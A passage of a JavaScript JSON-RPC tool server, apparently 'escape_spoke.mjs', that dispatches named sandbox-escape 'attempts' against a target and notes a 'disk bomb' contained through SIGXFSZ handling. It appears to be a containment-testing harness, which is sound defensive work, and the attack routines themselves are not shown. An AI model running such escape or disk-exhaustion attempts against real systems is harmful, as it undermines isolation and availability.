    if (method === "tools/list") return send({ jsonrpc: "2.0", id, result: { tools: [TOOL] } });
    if (method !== "tools/call") return send({ jsonrpc: "2.0", id, error: { code: -32601, message: `no method ${method}` } });
    const name = params && params.arguments && params.arguments.attempt;
    const out = await runAttempt(name, (params.arguments && params.arguments.target) || {});
    if (out === null)
        return send({ jsonrpc: "2.0", id, result: { isError: true, content: [{ type: "text", text: `unknown attempt ${name}` }] } });
    process.stderr.write(`escape_spoke.mjs: ${name} -> ${out}\n`);
    const r = structured(name, out);
    send({ jsonrpc: "2.0", id, result: { content: [{ type: "text", text: JSON.stringify(r) }], structuredContent: r } });
}

process.on("SIGXFSZ", () => {}); // the disk bomb's writes then fail with EFBIG, as in the C spoke
let queue = Promise.resolve(); // one call at a time, in order
readline.createInterface({ input: process.stdin })
    .on("line", (line) => {
        let req;
        try { req = JSON.parse(line); } catch { return; }
        queue = queue.then(() => handle(req));
    })
    .on("close", () => queue.then(() => process.exit(0)));
